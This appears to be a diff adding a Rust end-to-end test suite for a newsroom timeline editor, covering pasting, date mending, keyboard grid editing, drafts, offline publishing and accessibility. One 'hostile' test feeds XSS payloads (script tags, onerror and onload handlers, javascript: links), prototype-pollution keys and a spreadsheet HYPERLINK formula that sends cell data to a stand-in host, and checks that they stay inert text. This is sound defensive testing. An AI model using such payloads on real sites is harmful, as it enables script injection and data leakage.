@@ -1,0 +1,383 @@
+//! The desk, as an editor without a command line uses it.
+
+use crate::engine::Engine;
+use crate::page::Page;
+use crate::scenario::{Failure, Scenario, UNWATCHED};
+use anyhow::{Context as _, ensure};
+use backstory::desk::archive;
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
+use serde_json::json;
+
+const DESK: &str = "/dist/desk.html";
+
+pub const SCENARIOS: &[Scenario] = &[
+    Scenario::new("desk: pasted, mended, archived, published, shown", DESK, ten_minutes),
+    Scenario::new("desk: an archive is opened again and goes on", DESK, reopened),
+    Scenario::new("desk: the grid is moved in, typed into and taken back by keys", DESK, keys),
+    Scenario::new("desk: cells are copied and pasted as a spreadsheet has them", DESK, cells),
+    Scenario::new("desk: 5,000 rows scroll and are typed into with few elements", DESK, many),
+    Scenario::new("desk: hostile cells stay words", DESK, hostile),
+    Scenario::new("desk: a reload finds the draft, and it can be forgotten", DESK, draft),
+    Scenario::new("desk: once loaded it publishes without a network", DESK, offline).only_in(&[Engine::Chromium]),
+    Scenario::new("desk: an article is read for its terms", DESK, article),
+    Scenario::new("desk: every panel serves wide and narrow windows, light and dark", DESK, panels),
+];
+
+/// Rows as a spreadsheet puts them on the clipboard: one date in words, one with two readings.
+const ROWS: &str = "Date\tHeadline\tSummary\n2021-03-23\tA ship runs aground\tIt blocks the canal.\n\
+                    29 March 2021\tThe ship floats again\t\n04/05/2021\tAn inquiry opens\tIt hears the pilots.";
+
+/// Puts rows into the field and takes them.
+fn begin(page: &Page, rows: &str) -> Result<(), Failure> {
+    page.wait_for("document.body.dataset.ready === ''", "the desk is ready")?;
+    page.script(&format!("find('#paste').value = {};", json!(rows)))?;
+    page.click("#use-rows")?;
+    page.wait_for("find('#panel-events .grid') && find('#problem-count').textContent", "the story is checked")
+}
+
+/// Waits until what the desk shows is of the story as it is.
+fn checked(page: &Page, count: &str) -> Result<(), Failure> {
+    page.wait_for(&format!("find('#problem-count').textContent === {}", json!(count)), "the check says so")
+}
+
+/// The text of a cell of the events' grid, counted from 0.
+fn cell(page: &Page, row: usize, column: usize) -> Result<String, Failure> {
+    page.eval(&format!("find('#panel-events [data-row=\"{row}\"] [data-column=\"{column}\"]')?.textContent ?? ''"))
+}
+
+/// Makes the archive and gives its bytes.
+fn made(page: &Page) -> Result<Vec<u8>, Failure> {
+    page.script(
+        "window.made = undefined;
+         const create = URL.createObjectURL;
+         URL.createObjectURL = (blob) => { window.made = blob; return create.call(URL, blob); };",
+    )?;
+    page.click("#make-zip")?;
+    page.wait_for("window.made || find('#publish-error').textContent", "the archive is made")?;
+    let fault = page.text("#publish-error")?;
+    ensure!(fault.is_empty(), "{fault}");
+    let base64: String = page.eval(
+        "new Promise((done) => {
+           const reader = new FileReader();
+           reader.onload = () => done(reader.result.split(',')[1]);
+           reader.readAsDataURL(window.made);
+         })",
+    )?;
+    Ok(STANDARD.decode(base64)?)
+}
+
+fn ten_minutes(page: &mut Page) -> Result<(), Failure> {
+    begin(page, ROWS)?;
+    checked(page, "3 errors").or_else(|_| checked(page, "2 errors, 1 hint")).context("two dates and the title")?;
+    page.wait_for("find('#preview-page back-story >>> .row')", "the good row is seen at once")?;
+    page.wait_for("find('#preview-note').textContent.startsWith('Without 2 events')", "the others are counted")?;
+
+    // A problem leads to its cell.
+    page.script("[...document.querySelectorAll('.where')].find((it) => /^Event 2/.test(it.textContent)).click();")?;
+    page.wait_for("document.activeElement.matches('[data-row=\"1\"] [data-column=\"0\"]')", "the cell has the focus")?;
+    let invalid = "find('#panel-events [data-row=\"1\"] [data-column=\"0\"]').getAttribute('aria-invalid')";
+    ensure!(page.eval::<String>(invalid)? == "true");
+
+    // One date has one reading, the other two.
+    let mend = |label: &str| {
+        let found = format!("[...document.querySelectorAll('.mend')].find((it) => it.textContent === 'Write {label}')");
+        page.wait_for(&found, "the mend is offered")?;
+        page.script(&format!("{found}.click();"))
+    };
+    mend("2021-03-29")?;
+    mend("2021-05-04")?;
+    page.click("#tab-story")?;
+    page.click("#panel-story input")?;
+    page.type_text("The ship in the canal")?;
+    checked(page, "nothing to mend")?;
+    page.wait_for("find('#preview-page back-story >>> h2')?.textContent === 'The ship in the canal'", "it is shown")?;
+
+    page.click("#to-publish")?;
+    page.click("#base")?;
+    page.type_text("https://news.example/ship")?;
+    page.wait_for(
+        "find('#snippets').textContent.includes(\"script-src https://news.example 'wasm-unsafe-eval'\")",
+        "the snippet has its policy",
+    )?;
+    let files = archive::files(&made(page)?).map_err(Failure::msg)?;
+    let names: Vec<&str> = files.iter().map(|(name, _)| name.as_str()).collect();
+    for wanted in ["story.json", "story.bks", "digest.html", "snippets/element.txt", "backstory/story.html"] {
+        ensure!(names.contains(&wanted), "{wanted} is missing of {names:?}");
+    }
+    let story = files.iter().find(|(name, _)| name == "story.json").map(|(_, bytes)| bytes.as_slice());
+    let story: serde_json::Value = serde_json::from_slice(story.unwrap_or_default())?;
+    ensure!(story["id"] == "the-ship-in-the-canal" && story["events"][1]["id"] == "the-ship-floats-again", "{story}");
+    for (name, bytes) in files {
+        if let Some(name) = name.strip_prefix("backstory/").filter(|name| !name.contains('/')) {
+            ensure!(!String::from_utf8_lossy(&bytes).contains("Massimov"), "{name} holds another story");
+            // Their policies are the publication's own, and let no collector in.
+            let text = String::from_utf8(bytes);
+            let bytes = match text {
+                Ok(text) => text.replacen("<head>", &["<head>", UNWATCHED].concat(), 1).into_bytes(),
+                Err(bytes) => bytes.into_bytes(),
+            };
+            page.publish(name, bytes);
+        }
+    }
+    page.open("/made/embed.html")?;
+    page.wait_for("find('back-story >>> .row')", "the published frame shows the widget")?;
+    ensure!(
+        page.eval::<String>("find('back-story >>> h1')?.textContent ?? find('back-story >>> h2').textContent")?
+            == "The ship in the canal"
+    );
+    page.open("/made/story.html")?;
+    ensure!(page.eval::<bool>("document.body.textContent.includes('It hears the pilots.')")?);
+    Ok(())
+}
+
+fn reopened(page: &mut Page) -> Result<(), Failure> {
+    begin(page, "1932\tThe footbridge opens\n2024\tIt closes")?;
+    page.click("#tab-story")?;
+    page.click("#panel-story input")?;
+    page.type_text("A bridge")?;
+    checked(page, "nothing to mend")?;
+    page.click("#tab-look")?;
+    page.script("find('#look [name=theme][value=dark]').click();")?;
+    page.click("#to-publish")?;
+    let zip = made(page)?;
+    page.publish("a.zip", zip);
+    page.open(DESK)?;
+    page.wait_for("document.body.dataset.ready === ''", "the desk is ready")?;
+    page.script(
+        "const bytes = await (await fetch('/made/a.zip')).arrayBuffer();
+         const chosen = new DataTransfer();
+         chosen.items.add(new File([bytes], 'a.zip'));
+         find('#file').files = chosen.files;
+         find('#file').dispatchEvent(new Event('change'));",
+    )?;
+    page.wait_for("find('#story-title').textContent === 'A bridge'", "the story is open")?;
+    checked(page, "nothing to mend")?;
+    page.click("#tab-look")?;
+    ensure!(page.eval::<bool>("find('#look [name=theme][value=dark]').checked")?, "the look is kept");
+
+    // What is no story is refused in words, and what was open stays.
+    for (name, bytes, says) in [("b.zip", "'PK\\x03\\x04junk'", "damaged"), ("c.json", "'{\"title\": '", "not JSON")] {
+        page.script(&format!(
+            "const chosen = new DataTransfer();
+             chosen.items.add(new File([{bytes}], '{name}'));
+             find('#file').files = chosen.files;
+             find('#file').dispatchEvent(new Event('change'));"
+        ))?;
+        page.wait_for(&format!("find('#said').textContent.includes('{says}')"), "it is refused in words")?;
+    }
+    ensure!(page.text("#story-title")? == "A bridge");
+    Ok(())
+}
+
+fn keys(page: &mut Page) -> Result<(), Failure> {
+    begin(page, "1932\tThe footbridge opens\n2024\tIt closes")?;
+    page.script("find('#panel-events [data-row=\"0\"] [data-column=\"1\"]').focus();")?;
+    page.click("#panel-events [data-row='0'] [data-column='1']")?;
+    page.press("Enter")?;
+    page.type_text(" today")?;
+    page.press("Enter")?;
+    ensure!(cell(page, 0, 1)? == "The footbridge opens today");
+    ensure!(
+        page.eval::<bool>("document.activeElement.matches('[data-row=\"1\"] [data-column=\"1\"]')")?,
+        "Enter goes down"
+    );
+    page.type_text("Closed")?;
+    page.press("Tab")?;
+    ensure!(cell(page, 1, 1)? == "Closed", "letters replace what was there");
+    ensure!(
+        page.eval::<bool>("document.activeElement.matches('[data-row=\"1\"] [data-column=\"2\"]')")?,
+        "Tab goes on"
+    );
+    page.type_text("2025")?;
+    page.press("Escape")?;
+    ensure!(cell(page, 1, 2)?.is_empty(), "Escape drops it");
+    page.type_text("2025")?;
+    page.press("Enter")?;
+    ensure!(cell(page, 1, 2)? == "2025");
+    // The last row is empty, and takes a new entry.
+    ensure!(page.eval::<bool>("document.activeElement.closest('.row').classList.contains('new')")?);
+    page.press("Home")?;
+    page.type_text("2026")?;
+    page.press("Tab")?;
+    page.type_text("It opens again")?;
+    page.press("Enter")?;
+    ensure!(page.eval::<u32>("Number(find('#panel-events .grid').getAttribute('aria-rowcount'))")? == 5);
+    page.press("Control+z")?;
+    page.press("Control+z")?;
+    ensure!(page.eval::<u32>("Number(find('#panel-events .grid').getAttribute('aria-rowcount'))")? == 4, "taken back");
+    page.press("Control+y")?;
+    ensure!(page.eval::<u32>("Number(find('#panel-events .grid').getAttribute('aria-rowcount'))")? == 5, "done again");
+    // Nobody is caught: Tab leaves at the end of a row.
+    page.press("End")?;
+    page.press("Tab")?;
+    ensure!(page.eval::<bool>("!find('#panel-events .grid').contains(document.activeElement)")?, "Tab leaves the grid");
+    Ok(())
+}
+
+fn cells(page: &mut Page) -> Result<(), Failure> {
+    begin(page, "1932\tThe footbridge opens\n2024\tIt closes")?;
+    page.click("#panel-events [data-row='0'] [data-column='0']")?;
+    page.press("Shift+ArrowRight")?;
+    page.press("Shift+ArrowDown")?;
+    let copied: String = page.eval(
+        "(() => { const data = new DataTransfer();
+           document.activeElement.dispatchEvent(new ClipboardEvent('copy', { clipboardData: data, bubbles: true, cancelable: true }));
+           return data.getData('text/plain'); })()",
+    )?;
+    ensure!(copied == "1932\tThe footbridge opens\n2024\tIt closes", "{copied:?}");
+    page.click("#panel-events [data-row='2'] [data-column='0']")?;
+    page.script(
+        "const data = new DataTransfer();
+         data.setData('text/plain', '2025\\t\"A \"\"quoted\"\"\\nheadline\"\\r\\n2026\\tLast\\r\\n');
+         document.activeElement.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));",
+    )?;
+    page.wait_for("find('#panel-events .grid').getAttribute('aria-rowcount') === '6'", "two rows more")?;
+    ensure!(cell(page, 2, 1)? == "A \"quoted\"\nheadline", "{:?}", cell(page, 2, 1)?);
+    ensure!(cell(page, 3, 1)? == "Last");
+    page.press("Delete")?;
+    ensure!(cell(page, 3, 1)?.is_empty(), "the selected cells are emptied");
+    Ok(())
+}
+
+fn many(page: &mut Page) -> Result<(), Failure> {
+    let rows: Vec<String> =
+        (0..5000).map(|n| format!("{}-{:02}\tEvent number {n}", 1600 + n / 12, n % 12 + 1)).collect();
+    begin(page, &rows.join("\n"))?;
+    let nodes = "find('#panel-events .grid').querySelectorAll('*').length";
+    ensure!(page.eval::<usize>(nodes)? < 500, "{} elements", page.eval::<usize>(nodes)?);
+    page.script("find('#panel-events .grid').scrollTop = 36 * 2500;")?;
+    page.wait_for("find('#panel-events [data-row=\"2500\"]')", "the middle is drawn")?;
+    ensure!(page.eval::<usize>(nodes)? < 500, "{} elements", page.eval::<usize>(nodes)?);
+    page.click("#panel-events [data-row='2505'] [data-column='1']")?;
+    page.press("Control+End")?;
+    ensure!(page.eval::<bool>("document.activeElement.closest('.row').dataset.row === '5000'")?);
+    page.press("Home")?;
+    page.type_text("2030")?;
+    page.press("Tab")?;
+    page.type_text("The last one")?;
+    page.press("Enter")?;
+    ensure!(cell(page, 5000, 1)? == "The last one");
+    page.wait_for("find('#preview-page back-story >>> .row')", "all of it is shown")?;
+    Ok(())
+}
+
+fn hostile(page: &mut Page) -> Result<(), Failure> {
+    let rows = "Date\tHeadline\tSummary\tSource\n\
+                2021\t<img src=x onerror=\"window.hit=1\"><script>window.hit=1</script>\t\
+                [x](javascript:window.hit=1) [[nobody]] <svg onload=window.hit=1>\tjavascript:window.hit=1\n\
+                2022\t=HYPERLINK(\"https://evil.invalid/?\"&A1)\t\u{202e}reversed\thttps://evil.invalid/a\n\
+                2023\tconstructor\t__proto__\t__proto__";
+    begin(page, rows)?;
+    page.wait_for("find('#problem-count').textContent.includes('error')", "it is checked")?;
+    for tab in ["terms", "sources", "questions", "story", "publish", "events"] {
+        page.click(&format!("#tab-{tab}"))?;
+    }
+    page.script("find('#preview-kind [value=digest]').click();")?;
+    ensure!(page.eval::<bool>("window.hit === undefined")?, "a cell was run");
+    ensure!(page.eval::<bool>("!find('main img, main script, main svg, main [onerror], a[href^=\"javascript\"]')")?);
+    ensure!(cell(page, 0, 1)?.starts_with("<img src=x"), "{}", cell(page, 0, 1)?);
+    Ok(())
+}
+
+fn draft(page: &mut Page) -> Result<(), Failure> {
+    begin(page, "1932\tThe footbridge opens\n2024\tIt closes")?;
+    page.click("#panel-events [data-row='1'] [data-column='1']")?;
+    page.type_text("It is closed")?;
+    page.press("Enter")?;
+    page.wait_for("find('#kept').textContent === 'Draft kept in this browser'", "the draft is kept")?;
+    page.open(DESK)?;
+    page.wait_for("document.body.dataset.ready === ''", "the desk is ready")?;
+    page.click("#continue")?;
+    page.wait_for("find('#panel-events [data-row=\"1\"]')", "the draft is open")?;
+    ensure!(cell(page, 1, 1)? == "It is closed");
+    page.click("#forget")?;
+    page.wait_for("find('#kept').textContent === 'Not kept in this browser'", "it is forgotten")?;
+    page.click("#keep")?;
+    page.click("#panel-events [data-row='1'] [data-column='1']")?;
+    page.type_text("Nobody keeps this")?;
+    page.press("Enter")?;
+    // An archive in the editor's hands: nothing asks before the page is left.
+    page.click("#to-publish")?;
+    page.click("#save-json")?;
+    page.open(DESK)?;
+    page.wait_for("document.body.dataset.ready === ''", "the desk is ready")?;
+    ensure!(page.eval::<bool>("find('#go-on').hidden && !find('#keep').checked")?, "nothing was kept");
+    page.click("#keep")?;
+    Ok(())
+}
+
+fn offline(page: &mut Page) -> Result<(), Failure> {
+    begin(page, "1932\tThe footbridge opens")?;
+    page.wait_for("find('#preview-page back-story >>> .row')", "the preview stands")?;
+    page.wait_for_answer("types/vue.d.ts")?;
+    page.wait_for(
+        "performance.getEntriesByType('resource').some((it) => it.name.endsWith('types/vue.d.ts'))",
+        "it is here",
+    )?;
+    let network = |offline: bool| {
+        page.cdp(
+            "Network.emulateNetworkConditions",
+            &json!({ "offline": offline, "latency": 0, "downloadThroughput": -1, "uploadThroughput": -1 }),
+        )
+    };
+    page.cdp("Network.enable", &json!({}))?;
+    network(true)?;
+    page.click("#tab-story")?;
+    page.click("#panel-story input")?;
+    page.type_text("Without a network")?;
+    checked(page, "nothing to mend")?;
+    page.click("#to-publish")?;
+    let zip = made(page);
+    network(false)?;
+    ensure!(archive::open(&zip?).map_err(Failure::msg)?.story.contains("Without a network"));
+    Ok(())
+}
+
+fn article(page: &mut Page) -> Result<(), Failure> {
+    page.wait_for("document.body.dataset.ready === ''", "the desk is ready")?;
+    page.click("#begin-template")?;
+    checked(page, "nothing to mend")?;
+    page.click("#tab-article")?;
+    page.click("#article-text")?;
+    page.type_text("The footbridge is shut. A footbridge!")?;
+    page.wait_for("find('#article-read mark')", "the term is found")?;
+    ensure!(page.eval::<usize>("document.querySelectorAll('#article-read mark').length")? == 2);
+    ensure!(page.text("#article-found")?.contains("footbridge (2)"), "{}", page.text("#article-found")?);
+    Ok(())
+}
+
+fn panels(page: &mut Page) -> Result<(), Failure> {
+    for (width, dark) in [(1280, false), (1280, true), (360, false), (360, true)] {
+        page.size(width, 800)?;
+        page.scheme(dark)?;
+        page.open(DESK)?;
+        page.wait_for("document.body.dataset.ready === ''", "the desk is ready")?;
+        page.assert_accessible("").context("the beginning")?;
+        fits(page, width, "the beginning")?;
+        begin(page, ROWS)?;
+        page.wait_for("find('#preview-page back-story >>> .row')", "the preview stands")?;
+        for tab in ["events", "terms", "sources", "questions", "story", "article", "look", "publish"] {
+            page.click(&format!("#tab-{tab}"))?;
+            if tab == "questions" {
+                page.script("find('#panel-questions .tools button').click();")?;
+            }
+            if matches!(tab, "terms" | "sources") {
+                page.script(&format!("find('#panel-{tab} .tools button').click();"))?;
+                page.type_text("Council")?;
+                page.press("Enter")?;
+            }
+            page.script("for (const it of document.querySelectorAll('details')) it.open = true;")?;
+            page.assert_accessible("").with_context(|| format!("{tab} at {width}"))?;
+            fits(page, width, tab)?;
+        }
+        page.wait_for("find('#kept').textContent === 'Draft kept in this browser'", "the draft is kept")?;
+    }
+    Ok(())
+}
+
+fn fits(page: &Page, width: u32, what: &str) -> Result<(), Failure> {
+    let wide: i32 = page.eval("document.documentElement.scrollWidth - innerWidth")?;
+    ensure!(wide <= 0, "{what} is {wide} px too wide at {width}");
+    Ok(())
+}
